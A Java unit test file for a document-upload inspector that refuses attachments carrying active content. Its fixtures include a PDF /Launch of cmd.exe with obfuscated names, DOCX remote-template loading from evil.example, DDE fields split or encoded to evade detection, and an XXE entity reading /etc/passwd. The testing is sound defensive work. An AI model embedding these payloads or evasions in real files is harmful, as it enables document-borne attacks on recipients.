package vn.bantin.functions.images.document;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import vn.bantin.media.RejectionReason;

/** Attachments are what they seem, and contain nothing that runs. */
class DocumentInspectorTest {

    private record Bad(String name, RejectionReason refusal, Supplier<byte[]> file) {

        @Override
        public String toString() {
            return name;
        }
    }

    static List<Bad> bad() {
        return List.of(
                new Bad("empty", RejectionReason.EMPTY, () -> new byte[0]),
                new Bad("heavier than 20 MB", RejectionReason.DOCUMENT_TOO_LARGE, () -> new byte[20 * 1024 * 1024 + 1]),
                new Bad("HTML", RejectionReason.NOT_A_DOCUMENT, () -> bytes("<html><script>")),
                new Bad("program", RejectionReason.NOT_A_DOCUMENT, () -> bytes("MZ\u0090")),
                new Bad(
                        "old DOC",
                        RejectionReason.OLD_OFFICE,
                        () -> bytes("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")),
                new Bad(
                        "PDF with JavaScript",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("5 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj")),
                new Bad(
                        "PDF with JavaScript spelt out of sight",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("5 0 obj\n<</S/J#61vaScr#69pt/JS(app.alert(1))>>\nendobj")),
                new Bad(
                        "PDF with JavaScript in a packed object",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(DocumentForge.objectStream(
                                "/Filter/FlateDecode", "5 0 <</S/JavaScript/JS(app.alert(1))>>"))),
                new Bad(
                        "PDF with objects packed twice",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(
                                DocumentForge.objectStream("/Filter[/ASCIIHexDecode/FlateDecode]", "x"))),
                new Bad(
                        "PDF with objects behind a predictor",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(
                                DocumentForge.objectStream("/Filter/FlateDecode/DecodeParms<</Predictor 12>>", "x"))),
                new Bad(
                        "PDF that hides its objects in a stream called a text",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("6 0 obj\n<</Length 9/Filter/FlateDecode>>\nstream\n"
                                + DocumentForge.deflated("<</S/Launch/F(cmd.exe)>>") + "\nendstream\nendobj")),
                new Bad(
                        "PDF that starts a program",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("5 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj")),
                new Bad(
                        "PDF with a file inside",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("5 0 obj\n<</Type/EmbeddedFile>>\nendobj")),
                new Bad(
                        "PDF with a form that has scripts",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf("5 0 obj\n<</XFA 6 0 R>>\nendobj")),
                new Bad(
                        "PDF that is a ZIP too",
                        RejectionReason.ACTIVE_PDF,
                        () -> join(DocumentForge.pdf(), bytes("PK\5\6" + "\0".repeat(18)))),
                new Bad(
                        "PDF with a password",
                        RejectionReason.ENCRYPTED,
                        () -> DocumentForge.pdf("5 0 obj\n<</Encrypt 6 0 R>>\nendobj")),
                new Bad(
                        "PDF cut short",
                        RejectionReason.DAMAGED_DOCUMENT,
                        () -> Arrays.copyOf(DocumentForge.pdf(), 120)),
                new Bad(
                        "PDF whose objects are packed by a filter spelt out of sight",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(DocumentForge.objectStream("/F#69lter/ASCIIHexDecode", "x"))),
                new Bad(
                        "PDF whose objects are packed once more by a filter's short name",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(DocumentForge.objectStream("/Filter[/FlateDecode/AHx]", "x"))),
                new Bad(
                        "PDF whose filter stands elsewhere",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(DocumentForge.objectStream("/Filter 9 0 R", "x"))),
                new Bad(
                        "PDF with a blank behind the word stream",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(DocumentForge.objectStream("/Filter/FlateDecode", "5 0 <</S/Launch>>")
                                .replace("stream\n", "stream \n"))),
                new Bad(
                        "PDF whose stream's type is cut off by a string that says obj",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(
                                DocumentForge.objectStream("/Filter[/FlateDecode/AHx]/X( obj)/Subtype/Image", "x"))),
                new Bad(
                        "PDF whose objects say they are a picture",
                        RejectionReason.ACTIVE_PDF,
                        () -> DocumentForge.pdf(
                                DocumentForge.objectStream("/Filter/FlateDecode/Subtype/Image", "5 0 <</S/JavaScript>>")
                                        .replace("/Type/ObjStm", "/Type/XObject"))),
                new Bad(
                        "ZIP of anything",
                        RejectionReason.NOT_A_DOCUMENT,
                        () -> DocumentForge.zip(Map.of("a.txt", "x"))),
                new Bad(
                        "PPTX",
                        RejectionReason.NOT_A_DOCUMENT,
                        () -> DocumentForge.office(
                                "presentationml.presentation.main+xml", "ppt/presentation.xml", Map.of())),
                new Bad(
                        "DOCX with macros",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of("word/vbaProject.bin", "x"))),
                new Bad(
                        "DOCM named DOCX",
                        RejectionReason.MACROS,
                        () -> DocumentForge.zip(
                                Map.of(
                                        "[Content_Types].xml",
                                        "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"))),
                new Bad(
                        "DOCX with an OLE object",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of("word/embeddings/oleObject1.bin", "x"))),
                new Bad(
                        "DOCX with ActiveX",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of("word/activeX/activeX1.xml", "<x/>"))),
                new Bad(
                        "DOCX that fetches its template",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of(
                                "word/_rels/settings.xml.rels",
                                DocumentForge.relation("attachedTemplate", "http://evil.example/t.dotm", true)))),
                new Bad(
                        "the same in UTF-16",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of(
                                "word/_rels/settings.xml.rels",
                                new String(
                                        DocumentForge.relation("attachedTemplate", "http://evil.example/t.dotm", true)
                                                .replace("?>", " encoding=\"UTF-16\"?>")
                                                .getBytes(UTF_16),
                                        ISO_8859_1)))),
                new Bad(
                        "XLSX with DDE",
                        RejectionReason.MACROS,
                        () -> DocumentForge.xlsx(Map.of("xl/externalLinks/externalLink1.xml", "<e><ddeLink/></e>"))),
                new Bad(
                        "XLSX with an Excel 4 macro sheet",
                        RejectionReason.MACROS,
                        () -> DocumentForge.xlsx(Map.of("xl/macrosheets/sheet1.xml", "<x/>"))),
                new Bad(
                        "a macro workbook inside a DOCX",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of(
                                "word/embeddings/book.xlsx",
                                new String(DocumentForge.xlsx(Map.of("xl/vbaProject.bin", "x")), ISO_8859_1)))),
                new Bad(
                        "an external entity",
                        RejectionReason.DAMAGED_DOCUMENT,
                        () -> DocumentForge.docx(Map.of(
                                "word/_rels/document.xml.rels",
                                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"))),
                new Bad(
                        "path upwards in the ZIP",
                        RejectionReason.DAMAGED_DOCUMENT,
                        () -> DocumentForge.docx(Map.of("../../x.xml", "<x/>"))),
                new Bad(
                        "a part twice in other case",
                        RejectionReason.DAMAGED_DOCUMENT,
                        () -> DocumentForge.docx(Map.of("Word/Document.xml", "<x/>"))),
                new Bad(
                        "DOCX with a tail",
                        RejectionReason.DAMAGED_DOCUMENT,
                        () -> join(DocumentForge.docx(Map.of()), bytes("<?php"))),
                new Bad("DOCX cut short", RejectionReason.DAMAGED_DOCUMENT, () -> {
                    var file = DocumentForge.docx(Map.of());
                    return Arrays.copyOf(file, file.length - 40);
                }),
                new Bad(
                        "DOCX with DDE split over runs",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of(
                                "word/footer1.xml",
                                field("DD") + "<instrText>EAU</instrText><instrText>TO c:\\cmd.exe</instrText></w>"))),
                new Bad(
                        "DOCX with DDE spelt by number",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(
                                Map.of("word/footer1.xml", field(" QUOTE 68 68 69 65 85 84 79") + "</w>"))),
                new Bad(
                        "DOCX with DDE in a part that is called otherwise",
                        RejectionReason.MACROS,
                        () -> DocumentForge.docx(Map.of("word/main.dat", field("dde x") + "</w>"))));
    }

    private static String field(String instruction) {
        return "<w><fldChar fldCharType=\"begin\"/><instrText>" + instruction + "</instrText>";
    }

    @Test
    void text_that_only_looks_like_active_fields_is_accepted() {
        var link = field(" HYPERLINK &quot;https://example.org/dde/DDEAUTO&quot; ") + "<t>DDEAUTO</t></w>";
        assertThat(DocumentInspector.inspect(DocumentForge.docx(Map.of("word/document2.xml", link))))
                .isEqualTo(new Inspection.Accepted(DocumentType.DOCX, null));
    }

    @Test
    void ordinary_streams_of_a_pdf_are_accepted() {
        var outline = "8 0 obj\n<</First 9 0 R/Last 9 0 R>>\nendobj\n";
        var profile = "6 0 obj\n<</N 3/Filter[/ASCIIHexDecode/FlateDecode]>>\nstream\n789c\nendstream\nendobj";
        assertThat(DocumentInspector.inspect(DocumentForge.pdf(outline, profile)))
                .isEqualTo(new Inspection.Accepted(DocumentType.PDF, null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bad")
    void is_rejected(Bad bad) {
        assertThat(DocumentInspector.inspect(bad.file().get())).isEqualTo(new Inspection.Refused(bad.refusal()));
    }

    @Test
    void ordinary_documents_are_accepted() {
        assertThat(DocumentInspector.inspect(DocumentForge.pdf()))
                .isEqualTo(new Inspection.Accepted(DocumentType.PDF, null));
        assertThat(DocumentInspector.inspect(DocumentForge.docx(Map.of(
                        "word/_rels/document.xml.rels",
                        DocumentForge.relation("hyperlink", "https://example.org", true)))))
                .isEqualTo(new Inspection.Accepted(DocumentType.DOCX, null));
        assertThat(DocumentInspector.inspect(
                        DocumentForge.xlsx(Map.of("xl/printerSettings/printerSettings1.bin", "x"))))
                .isEqualTo(new Inspection.Accepted(DocumentType.XLSX, null));
        assertThat(DocumentInspector.inspect(DocumentForge.docx(
                        Map.of("word/embeddings/chart.xlsx", new String(DocumentForge.xlsx(Map.of()), ISO_8859_1)))))
                .isEqualTo(new Inspection.Accepted(DocumentType.DOCX, null));
    }

    @Test
    void a_pdf_whose_fonts_are_in_packed_objects_has_text() {
        var packed = DocumentForge.objectStream("/Filter/FlateDecode", "5 0 <</Type/Font/BaseFont/Arial>>");
        assertThat(DocumentInspector.inspect(DocumentForge.pdf(false, packed)))
                .isEqualTo(new Inspection.Accepted(DocumentType.PDF, null));
    }

    @Test
    void a_scanned_pdf_gets_a_warning() {
        var image = "4 0 obj\n<</Subtype/Image/Filter/DCTDecode>>\nstream\nxx\nendstream\nendobj";
        assertThat(DocumentInspector.inspect(DocumentForge.pdf(false, image)))
                .isInstanceOfSatisfying(Inspection.Accepted.class, accepted -> assertThat(accepted.warning())
                        .contains("bản quét")
                        .contains("scanned"));
    }

    private static byte[] bytes(String latin1) {
        return latin1.getBytes(ISO_8859_1);
    }

    private static byte[] join(byte[] a, byte[] b) {
        var out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
